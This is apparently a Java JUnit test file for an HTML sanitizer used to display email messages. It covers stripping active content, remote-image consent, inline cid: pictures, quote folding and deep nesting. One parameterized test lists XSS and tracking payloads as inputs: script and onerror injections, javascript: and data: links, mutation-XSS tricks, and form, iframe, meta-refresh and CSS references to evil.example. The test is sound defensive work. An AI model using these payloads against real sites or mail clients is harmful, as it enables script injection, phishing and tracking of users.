// SPDX-License-Identifier: Apache-2.0
package live.lib.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {
    private static final String PICTURE = "/api/v1/channels/blobs/01890000-0000-7000-8000-000000000001";

    private static SafeHtml.View view(String html) {
        return SafeHtml.view(html, cid -> cid.equals("logo@x") ? Optional.of(PICTURE) : Optional.empty());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" java\nscript:alert(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<form action=https://evil.example><input name=password></form>",
                "<iframe src=https://evil.example></iframe>",
                "<object data=x></object><embed src=x>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href=https://evil.example>",
                "<link rel=stylesheet href=https://evil.example>",
                "<style>@import 'https://evil.example'</style>",
                "<div style=\"background:url(https://evil.example/t.gif)\">x</div>",
                "<div style=\"position:fixed;width:expression(alert(1))\">x</div>",
                "<img srcset='https://evil.example/t.gif 2x'>",
                "<img src='//evil.example/t.gif'>",
                "<video poster=https://evil.example/t.gif>",
                "<table background=https://evil.example/t.gif><tr><td>x",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"
            })
    void nothingActiveAndNothingThatCallsHomeIsLeft(String html) {
        String shown = view(html).html();
        assertThat(shown)
                .doesNotContainIgnoringCase("alert(")
                .doesNotContainIgnoringCase("javascript")
                .doesNotContainIgnoringCase("<form")
                .doesNotContainIgnoringCase("<input")
                .doesNotContainIgnoringCase("<iframe")
                .doesNotContainIgnoringCase("url(")
                .doesNotContainIgnoringCase("expression")
                .doesNotContainIgnoringCase("fixed")
                .doesNotContainPattern("(?i)(?<!data-)src(?:set)?\\s*=")
                .doesNotContainIgnoringCase("data:text");
    }

    @Test
    void formattingLinksAndTablesStay() {
        String shown = view("<p style=\"color:#ff0000\"><b>Hi</b> <a href=\"https://example.org/a?b=c\">there</a></p>"
                        + "<table><tr><td colspan=\"2\">cell</td></tr></table>")
                .html();
        assertThat(shown)
                .contains("<b>Hi</b>", "color:#ff0000", "https://example.org/a?b", "colspan=\"2\"", "noopener");
    }

    @Test
    void remotePicturesWaitForConsent() {
        SafeHtml.View view = view("<p>x</p><img src=\"https://news.example/pixel.gif?u=1\" width=1>");
        assertThat(view.hasRemoteImages()).isTrue();
        assertThat(view.html()).contains("data-src=\"https://news.example/pixel.gif?u");
    }

    @Test
    void picturesOfTheMessageAreShownAndUnknownOnesAreNot() {
        SafeHtml.View view = view("<img src=\"cid:logo@x\"><img alt=gone src=\"CID:other@x\">");
        assertThat(view.hasRemoteImages()).isFalse();
        assertThat(view.html()).contains("src=\"" + PICTURE + "\"").doesNotContainIgnoringCase("cid:");
    }

    @Test
    void whatIsQuotedAtTheEndIsFolded() {
        SafeHtml.View gmail = view("<div>Thanks!</div><div class=\"gmail_quote\"><div>On Monday Anna wrote:</div>"
                + "<blockquote>earlier</blockquote></div>");
        assertThat(gmail.html()).contains("Thanks!").doesNotContain("earlier");
        assertThat(gmail.quoted())
                .hasValueSatisfying(quoted -> assertThat(quoted).contains("earlier"));

        SafeHtml.View outlook =
                view("<div>Thanks!</div><hr><div id=\"divRplyFwdMsg\">From: Anna</div><div>earlier</div>");
        assertThat(outlook.html()).doesNotContain("earlier");
        assertThat(outlook.quoted())
                .hasValueSatisfying(quoted -> assertThat(quoted).contains("earlier"));
    }

    @Test
    void anAnswerBelowTheQuotationIsNeverHidden() {
        SafeHtml.View view = view("<p>top</p><blockquote type=cite>earlier</blockquote><p>my answer</p>");
        assertThat(view.quoted()).isEmpty();
        assertThat(view.html()).contains("earlier", "my answer");
    }

    @Test
    void thirtyThousandLevelsOfNestingAreSurvived() {
        assertThat(view("<div>".repeat(30_000) + "deep" + "</div>".repeat(30_000))
                        .html())
                .isNotNull();
    }

    @Test
    void whatAnAgentWritesKeepsItsOwnPicturesAndLosesScripts() {
        assertThat(SafeHtml.clean("<p onclick=alert(1)>Hi <img src=\"cid:a@b\"></p><script>x</script>"))
                .contains("cid:a")
                .doesNotContain("onclick")
                .doesNotContain("script");
    }

    @Test
    void plainTextKeepsItsLines() {
        assertThat(PlainText.of("<style>x</style><p>Hello<br>world</p><ul><li>a</li><li>b</li></ul>"))
                .isEqualTo("Hello\nworld\n\n- a\n- b");
    }

    @Test
    void plainTextIsFoldedAtItsQuotation() {
        Quotes.Folded folded =
                Quotes.fold("Thanks\n\nOn Mon, 2 Jan 2026, Anna <a@b.example> wrote:\n> earlier\n> more\n");
        assertThat(folded.text()).isEqualTo("Thanks");
        assertThat(folded.quoted())
                .hasValueSatisfying(quoted -> assertThat(quoted).contains("> earlier"));
        assertThat(Quotes.fold("> earlier\nmy answer").quoted()).isEmpty();
        assertThat(Quotes.fold("> all\n> quoted").quoted()).isEmpty();
    }
}
